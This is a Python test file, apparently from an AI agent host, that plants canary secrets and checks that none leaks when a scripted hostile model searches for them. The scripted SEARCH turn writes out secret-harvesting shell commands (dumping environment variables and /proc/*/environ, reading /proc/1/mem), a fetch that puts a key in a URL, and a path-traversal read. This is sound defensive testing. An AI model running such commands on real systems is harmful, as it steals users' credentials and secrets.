"""Planted secrets against every byte that leaves: none of them does, and what needs them still works (bar S9)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from stead.domain.ends import WELL
from tests.attacks.canaries import Canary, Planted, descendants, everything_that_left, processes
from tests.fakes.models import Call, Turn
from tests.flows.house import LivingHome
from tests.flows.served import by_turn, served
from tests.promises import promise

SEARCH = Turn(
    "I will look for everything that is worth something.",
    calls=(
        Call(
            "shell", {"command": "env; set; export -p; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'"}
        ),
        Call(
            "shell",
            {"command": "cd /; grep -rIs canary $(ls | grep -vE '^(usr|proc|sys)$') | head; ls -laR ~ /run /tmp"},
        ),
        Call("shell", {"command": "cat /proc/self/maps /proc/self/mountinfo; cat /proc/1/mem | head -c 100"}),
        Call("fetch", {"url": "http://127.0.0.1:1/?key=$ACME_KEY"}),
        Call("read", {"path": "../home/key"}),
        Call("teleport", {"to": "$ACME_KEY"}),
        Call("shell", {"wrong": "${STEAD_CANARY}"}),
        Call("write", {"path": "notes.md", "text": "$ACME_KEY ${STEAD_CANARY}"}),
    ),
)
SIGN = Turn("One moment.", calls=(Call("shell", {"command": "touch up"}),))
WAIT = Turn("", calls=(Call("shell", {"command": "while [ ! -e leave ]; do sleep 0.1; done"}),))


def leaks(root: Path) -> tuple[list[str], int]:
    """Plant, let a hostile model search, and search every byte that left; gives what was found, and how many bytes.

    Args:
        root: an empty folder.
    """
    project = root / "project"
    project.mkdir()
    house = LivingHome(root / "home")
    planted = Planted(house)
    house.env = {"STEAD_CANARY": planted.plant("environment"), "ACME_KEY": planted.plant("provider's key")}
    found: list[str] = []
    size_bytes = 0
    try:
        house.start()
        with served(by_turn(SEARCH, SIGN, WAIT, then=Turn("I found nothing."))) as model:
            _configure(house, planted, model.openai)
            id = house.give("look for secrets", project, allow=["shell", "write"])
            _answer_until(house, id, project / "up")
            assert house.process is not None
            assert len(descendants(house.process.pid)) > 1, "no machine is up, so there is nothing to look at"
            for name, content in processes(house.process.pid):
                found += planted.found_in(name, content)
                size_bytes += len(content)
            (project / "leave").touch()
            assert house.finish(id, answer="once")["status"] in WELL
            keys = {request.request.headers["authorization"] for request in model.requests()}
            for name, content in everything_that_left(house, project, model.requests(), [id]):
                found += planted.found_in(name, content)
                size_bytes += len(content)
    finally:
        house.stop()
    # What needs a secret had it: the provider was shown its key, and nobody else was.
    assert keys == {f"Bearer {canary.value}" for canary in planted.canaries if canary.where == "key in the vault"}
    return found, size_bytes


def _configure(house: LivingHome, planted: Planted, base_url: str) -> None:
    """Two providers, one with its key in the vault and one with its key in the environment, and the door's own keys."""
    for name, key in (("vaulted", "vault"), ("acme", "env:ACME_KEY")):
        body = {"name": name, "preset": "compatible", "base_url": base_url, "model": "scripted", "key": key}
        house.post("/providers", body)
    house.post("/providers/vaulted/key", {"key": planted.plant("key in the vault")})
    house.post("/chain", {"chain": [{"provider": "vaulted", "model": "scripted"}]})
    planted.plant("bearer of the door", json.loads(house.home.address.read_text("utf-8"))["bearer"])
    planted.plant("sign-in code", house.post("/sign-in-codes")["code"])
    planted.plant("recovery key", (house.home.run / "recovery.txt").read_text("utf-8").strip())


def _answer_until(house: LivingHome, id: str, sign: Path) -> None:
    """The person says yes until the model's program has left a sign."""

    def step() -> bool:
        for question in house.get("/approvals", session=id)["items"]:
            house.post(
                f"/approvals/{question['id']}/decision", {"answer": "once", "digest": question["digest"], "whole": True}
            )
        return sign.exists()

    house.until(step, "the model's program to run", timeout_s=60)


@promise("SEC-7.vault")
def test_no_planted_secret_is_in_any_byte_that_leaves(tmp_path: Path) -> None:
    found, size_bytes = leaks(tmp_path)

    assert found == []
    assert size_bytes > 100_000


@pytest.mark.parametrize("form", Canary("x", "sk-canary-1234567890").forms())
def test_a_secret_is_found_in_every_form(form: str, tmp_path: Path) -> None:
    planted = Planted(LivingHome(tmp_path))
    planted.plant("test", "sk-canary-1234567890")
    written = Canary("x", "sk-canary-1234567890").forms()[form]

    assert planted.found_in("here", b"before" + written + b"after") != []
